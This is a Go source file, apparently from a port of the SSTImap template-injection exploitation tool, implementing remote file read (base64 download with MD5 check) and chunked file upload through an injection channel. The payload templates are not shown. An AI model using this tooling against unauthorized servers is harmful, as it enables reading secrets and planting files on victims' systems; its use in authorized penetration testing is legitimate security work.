// Package fileio implements the file I/O protocol (component F): an
// MD5 presence probe, base64 download with round-trip verification, and
// chunked base64 upload with a truncate-then-append sequence and an
// overwrite guard.
package fileio

import (
	"context"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"regexp"
	"strings"

	"github.com/sstimap/sstimap-go/pkg/detect"
	"github.com/sstimap/sstimap-go/pkg/inject"
	"github.com/sstimap/sstimap-go/pkg/ssmerr"
	"github.com/sstimap/sstimap-go/pkg/template"
)

// chunkSize is the upload fragment size the original splits write payloads
// into (utils.strings.chunk_seq in the source tree).
const chunkSize = 500

var md5Pattern = regexp.MustCompile(`^[a-fA-F0-9]{32}$`)

func callFor(call, def string) string {
	if call == "" {
		return def
	}
	return call
}

// MD5 runs the engine's md5 payload and returns the result iff it matches
// the expected 32-hex-digit shape; ok is false on any format violation or
// missing action, never an error — a missing remote file and a malformed
// response are indistinguishable to the caller by design.
func MD5(ctx context.Context, s *detect.Session, remotePath string) (string, bool) {
	action := s.Plugin.Actions["md5"]
	tpl := action.String("md5")
	if tpl == "" {
		return "", false
	}
	code := template.Format(tpl, template.Fields{"path": remotePath})
	callName := callFor(action.Call, "render")

	result, _, err := s.Prim.Dispatch(ctx, callName, code, inject.CallOpts{})
	if err != nil || !md5Pattern.MatchString(result) {
		return "", false
	}
	return result, true
}

// Read requires an md5 round-trip and a "read" action: it fetches the
// remote MD5 first (aborting if unobtainable), decodes the standard-base64
// payload the read template returns, and reports — but does not fail on —
// an MD5 mismatch. The bytes are returned regardless of the comparison.
func Read(ctx context.Context, s *detect.Session, remotePath string) ([]byte, error) {
	remoteMD5, ok := MD5(ctx, s, remotePath)
	if !ok {
		s.Log.Warn("could not obtain remote file md5, check presence and permission")
		return nil, ssmerr.ErrNoRemoteMD5
	}

	action := s.Plugin.Actions["read"]
	tpl := action.String("read")
	if tpl == "" {
		return nil, ssmerr.ErrActionMissing
	}
	code := template.Format(tpl, template.Fields{"path": remotePath})
	callName := callFor(action.Call, "render")

	encoded, _, err := s.Prim.Dispatch(ctx, callName, code, inject.CallOpts{})
	if err != nil {
		return nil, err
	}
	data, err := base64.StdEncoding.DecodeString(encoded)
	if err != nil {
		return nil, err
	}

	sum := md5.Sum(data)
	localMD5 := hex.EncodeToString(sum[:])
	if strings.EqualFold(localMD5, remoteMD5) {
		s.Log.FileDownloaded(remotePath)
	} else {
		s.Log.Warn("downloaded file md5 does not match remote md5")
	}
	return data, nil
}

// chunkSeq splits data into size-byte fragments, matching the original's
// chunk_seq helper; an empty input yields a single empty chunk so a
// zero-length write still issues one request.
func chunkSeq(data []byte, size int) [][]byte {
	if len(data) == 0 {
		return [][]byte{{}}
	}
	var chunks [][]byte
	for len(data) > 0 {
		n := size
		if n > len(data) {
			n = len(data)
		}
		chunks = append(chunks, data[:n])
		data = data[n:]
	}
	return chunks
}

// Write requires write.write and write.truncate actions. A remote file that
// already exists (MD5 probe succeeds) or a blind session both demand
// forceOverwrite; without it, Write logs and returns without issuing any
// payload. Once cleared, it truncates (non-blind only), then appends each
// 500-byte chunk in turn, then — non-blind only — verifies the upload by
// re-running the MD5 probe.
func Write(ctx context.Context, s *detect.Session, data []byte, remotePath string, forceOverwrite bool) error {
	action := s.Plugin.Actions["write"]
	writeTpl := action.String("write")
	truncateTpl := action.String("truncate")
	if writeTpl == "" || truncateTpl == "" {
		return ssmerr.ErrActionMissing
	}

	blind := s.Channel.Data().GetBool("blind")
	_, remoteExists := MD5(ctx, s, remotePath)
	if (remoteExists || blind) && !forceOverwrite {
		s.Log.Warn("remote file exists or session is blind; refusing overwrite without force")
		return ssmerr.ErrWriteWithoutForce
	}

	callName := callFor(action.Call, "inject")

	if !blind {
		truncateCode := template.Format(truncateTpl, template.Fields{"path": remotePath})
		if _, _, err := s.Prim.Dispatch(ctx, callName, truncateCode, inject.CallOpts{}); err != nil {
			return err
		}
	}

	for _, chunk := range chunkSeq(data, chunkSize) {
		chunkB64 := base64.URLEncoding.EncodeToString(chunk)
		chunkB64p := base64.StdEncoding.EncodeToString(chunk)
		fields := template.Fields{
			"path":       remotePath,
			"chunk_b64":  chunkB64,
			"chunk_b64p": chunkB64p,
			"lens": map[string]int{
				"clen":    len(chunk),
				"clen64":  len(chunkB64),
				"clen64p": len(chunkB64p),
			},
		}
		code := template.Format(writeTpl, fields)
		if _, _, err := s.Prim.Dispatch(ctx, callName, code, inject.CallOpts{}); err != nil {
			return err
		}
	}

	if blind {
		s.Log.Warn("write verification impossible in a blind session")
		return nil
	}

	sum := md5.Sum(data)
	localMD5 := hex.EncodeToString(sum[:])
	remoteMD5, ok := MD5(ctx, s, remotePath)
	if !ok || !strings.EqualFold(localMD5, remoteMD5) {
		s.Log.Warn("write md5 verification mismatch")
		return nil
	}
	s.Log.Confirmed("write verified by md5 round-trip")
	return nil
}
